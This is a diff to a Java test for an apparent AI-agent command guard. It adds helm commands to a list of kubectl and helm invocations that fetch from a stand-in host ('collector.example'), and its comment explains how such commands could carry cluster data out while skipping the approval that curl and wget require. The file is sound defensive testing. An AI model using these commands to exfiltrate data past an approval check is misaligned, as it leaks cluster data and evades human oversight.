@@ -11,8 +11,10 @@ import org.junit.jupiter.params.provider.MethodSource;
 /**
  * {@code kubectl get -f URL} downloads the URL itself before it asks the API server anything, and
  * {@code -k} clones a remote kustomization: a request to any host, its path and query whatever the
- * model wrote (a cluster's data, read a moment before). curl and wget to a host outside the allowed
- * ones need an approval; {@code kubectl -f} to the same host ran at once.
+ * model wrote (a cluster's data, read a moment before). helm does the same with a chart named by
+ * URL, a {@code --repo} or {@code --endpoint}, and Artifact Hub. curl and wget to a host outside
+ * the allowed ones need an approval; {@code kubectl -f} and {@code helm show} to the same host ran
+ * at once.
  */
 class RemoteManifestAttackTest {
 
@@ -36,7 +38,14 @@ class RemoteManifestAttackTest {
         "kubectl get -k https://github.com/collector/repo",
         "kubectl get -k git@github.com:collector/repo.git",
         "kubectl get --kustomize=gitlab.example/collector/repo",
-        "kubectl get -k \"$OVERLAY\"");
+        "kubectl get -k \"$OVERLAY\"",
+        "helm show values oci://collector.example/charts/x",
+        "helm show chart https://collector.example/x-1.0.0.tgz",
+        "helm show all x --repo https://collector.example/charts",
+        "helm show values x --repo=https://collector.example/charts",
+        "helm inspect values https://collector.example/x.tgz",
+        "helm search hub nginx --endpoint https://collector.example",
+        "helm search hub shop-db.internal");
   }
 
   static Stream<String> local() {
@@ -49,7 +58,12 @@ class RemoteManifestAttackTest {
         "kubectl get -k overlays/prod",
         "kubectl get -k .",
         "kubectl get pods -lapp=frontend",
-        "kubectl get pods -o wide");
+        "kubectl get pods -o wide",
+        "helm show values ./chart",
+        "helm show values bitnami/nginx",
+        "helm show values x --repo http://127.0.0.1:9090/charts",
+        "helm get values checkout",
+        "helm search repo nginx");
   }
 
   @ParameterizedTest
